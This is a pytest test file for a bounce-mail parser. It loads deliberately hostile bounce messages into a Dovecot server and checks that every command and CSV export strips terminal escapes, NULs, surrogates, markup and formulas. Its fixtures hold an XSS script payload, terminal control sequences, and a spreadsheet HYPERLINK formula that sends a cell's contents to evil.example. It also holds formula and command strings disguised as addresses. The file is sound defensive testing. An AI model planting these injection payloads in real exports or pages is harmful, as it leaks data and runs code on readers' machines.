"""Hostile mail from a mail server to a person's screen: polled from Dovecot, recorded in both databases, told by every
command and export. No NUL or lone surrogate, nothing that a terminal obeys, no markup, no formula comes out."""

from __future__ import annotations

import csv
import io
import json
import sys
from base64 import encodebytes
from collections.abc import Iterator
from importlib import util
from pathlib import Path
from types import ModuleType
from unicodedata import category

import pytest
from click.testing import CliRunner, Result
from crashes import state
from servers import PASSWORD, USER, Dovecot, running_dovecot

from bounceparse.cli import main
from bounceparse.db import Store
from bounceparse.web.records import as_csv

ROOT = Path(__file__).parent.parent
MARKUP = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
TERMINAL = b"\x1b[2J\x1b]0;title\x07\x9b31m\x08\xe2\x80\xae\xe2\x81\xa6\xc2\x85\xe2\x80\xa8"
FORMULA = b'=HYPERLINK("https://evil.example/"&A1,"look")'
SURROGATE = b"\xed\xa0\x80=?utf-8?B?7aCA?= =?utf-7?Q?+2AA-?="


def report(number: int, words: bytes, recipient: bytes = b"") -> bytes:
    """A bounce that has ``words`` wherever a mail may have any."""
    to = recipient or b"jan%d@firma.example" % number
    return (
        b"From: MAILER-DAEMON@mx.example.net\nTo: bounces@shop.example\nSubject: Undelivered Mail " + words + b"\n"
        b"Message-ID: <%d@mx.example.net>\nDate: Wed, 04 Nov 2026 10:00:00 +0100\n" % number
        + b'MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n'
        b"--b\nContent-Type: text/plain; charset=utf-8\n\nIt failed. " + words + b"\n\n"
        b"--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx" + words + b"\n"
        b"Original-Envelope-Id: " + words + b"\n\nFinal-Recipient: rfc822; " + to + b"\nAction: failed\nStatus: 5.1.1\n"
        b"Remote-MTA: dns; " + words + b"\nDiagnostic-Code: smtp; " + words + b" 550 5.1.1 User unknown " + words + b"\n\n"
        b"--b\nContent-Type: text/rfc822-headers\n\nMessage-ID: <h%d" % number
        + words.replace(b" ", b"") + b"@shop.example>\nSubject: " + words + b"\nList-Id: <" + words + b">\nTo: " + to + b"\n\n--b--\n"
    )  # fmt: skip


def encoded(raw: bytes) -> bytes:
    """The report with its status part in base64, which no IMAP server looks into."""
    head = b"Content-Type: message/delivery-status\n"
    before, _, rest = raw.partition(head + b"\n")
    status, _, after = rest.partition(b"\n--b\n")
    return before + head + b"Content-Transfer-Encoding: base64\n\n" + encodebytes(status) + b"\n--b\n" + after


SNS = rb"""From: no-reply@sns.amazonaws.example
X-Amz-Sns-Message-Id: 1
Subject: AWS Notification Message

{"notificationType":"Bounce","bounce":{"bounceType":"Permanent","bounceSubType":"General","bouncedRecipients":
[{"emailAddress":"jan9@firma.example","action":"failed","status":"5.1.1","diagnosticCode":"smtp; 550 5.1.1 \ud800\u0000 no"}],
"timestamp":"2026-11-04T10:00:00Z"},"mail":{"messageId":"\udc00","commonHeaders":{"subject":"\ud800"}}}
"""
MAILS = [
    report(1, b"a\x00b\x00"),
    report(2, SURROGATE),
    report(3, TERMINAL),
    report(4, MARKUP),
    report(5, FORMULA),
    report(6, b"x", b"=1+1|cmd@firma.example"),
    report(7, b"x", b"@SUM(A1)@firma.example"),
    report(8, b"\xff\xfe\x80", b"utf-8; jan\\x{D800}8@firma.example"),
    SNS,
    encoded(report(10, b"a\x00b\xed\xa0\x80")),
    b"From: =?utf-8?B?7aCA?= <jan9@firma.example>\nTo: unsubscribe@shop.example\nSubject: unsubscribe\x00\n\n" + MARKUP,
]


@pytest.fixture(scope="module")
def dovecot() -> Iterator[Dovecot]:
    with running_dovecot() as server:
        server.load(MAILS)
        yield server


@pytest.fixture
def polled(dovecot: Dovecot, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The URL of a database into which the mails were polled."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BOUNCEPARSE_DATABASE__URL", database_url)
    config = Path("bounceparse.toml")
    config.write_text(
        f'[mailbox.bounces]\nhost = "127.0.0.1"\nport = {dovecot.plain}\ntls = "none"\nusername = "{USER}"\n'
        f'password = "{PASSWORD}"\nafter = "nothing"\n'
    )
    config.chmod(0o600)
    done = run("poll", "--json")
    assert done.exit_code == 0 and done.stderr == "", done.stderr
    assert json.loads(done.stdout)["messages"] == len(MAILS)
    return database_url


def unsafe(text: str) -> set[str]:
    """What a terminal acts on: control characters, line separators, what turns the direction of writing."""
    turning = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return {char for char in text if char != "\n" and (category(char) in ("Cc", "Cs", "Zl", "Zp") or char in turning)}


def run(*arguments: str) -> Result:
    return CliRunner().invoke(main, arguments)


def test_all_of_it_is_recorded_in_text_that_any_database_takes(polled: str) -> None:
    rows = state(polled)
    assert [row[3] for row in rows["messages"]] == [None] * len(MAILS), "none is held"
    with Store(polled) as store:
        found = [one.to_json() for one in store.outcomes()]
    assert len(found) >= len(MAILS)
    for row in found:
        for name, value in row.items():
            if isinstance(value, str):
                assert "\x00" not in value and value.encode(), name


@pytest.mark.parametrize(
    "command",
    [
        "outcomes", "outcomes --json", "address jan3@firma.example", "address jan4@firma.example --json", "stats --by provider",
        "stats --by reason --json", "suppressions list", "suppressions list --json", "suppressions export",
        "suppressions export --format jsonl", "suppressions export --format ses", "review list", "held list", "audit", "health",
    ],
)  # fmt: skip
def test_no_command_prints_what_a_terminal_obeys(polled: str, command: str) -> None:
    """Nor a lone surrogate, nor a line more than it means to; JSON is JSON."""
    done = run(*command.split())
    assert done.exit_code in (0, 1) and not isinstance(done.exception, (UnicodeError, ValueError)), done.exception
    text = done.stdout_bytes.decode()  # strict
    assert not unsafe(text)
    if "--json" in command or "jsonl" in command:
        for line in text.splitlines():
            json.loads(line)


@pytest.mark.parametrize("number", range(len(MAILS)))
def test_an_explanation_is_safe_to_read(tmp_path: Path, number: int) -> None:
    path = tmp_path / "x.eml"
    path.write_bytes(MAILS[number])
    for arguments in (("explain", str(path)), ("parse", str(path)), ("parse", "--json", str(path))):
        done = run(*arguments)
        assert done.exit_code == 0, done.output
        assert not unsafe(done.stdout_bytes.decode())


def test_no_cell_of_a_table_is_a_formula(polled: str) -> None:
    """What is exported for people, by the command and by the API; what reads it back gets the address as it was."""
    with Store(polled) as store:
        outcomes = list(csv.DictReader(io.StringIO("".join(as_csv(store.outcomes())))))
    assert any("HYPERLINK" in row["subject"] for row in outcomes)
    exported = list(csv.DictReader(io.StringIO(run("suppressions", "export").stdout)))
    for row in (*outcomes, *exported):
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), (name, cell)


# -- mutations


def _fuzz() -> ModuleType:
    spec = util.spec_from_file_location("fuzz", ROOT / "benchmarks" / "fuzz.py")
    assert spec and spec.loader
    module = util.module_from_spec(spec)
    sys.modules["fuzz"] = module  # dataclasses and named tuples look their module up
    spec.loader.exec_module(module)
    return module


def test_mutated_mails_keep_every_promise() -> None:
    """The first of the million that ``benchmarks/fuzz.py`` runs: nothing raises, every verdict quotes the mail."""
    fuzz = _fuzz()
    mails = [path.read_bytes() for path in sorted(fuzz.CORPUS.rglob("*.eml"))]
    for number in range(500):
        raw = fuzz.mutated(number, 3, mails)
        try:
            fuzz.check(raw, thorough=number % 50 == 0)
        except Exception as error:
            pytest.fail(f"execution {number} of seed 3: {error!r}")
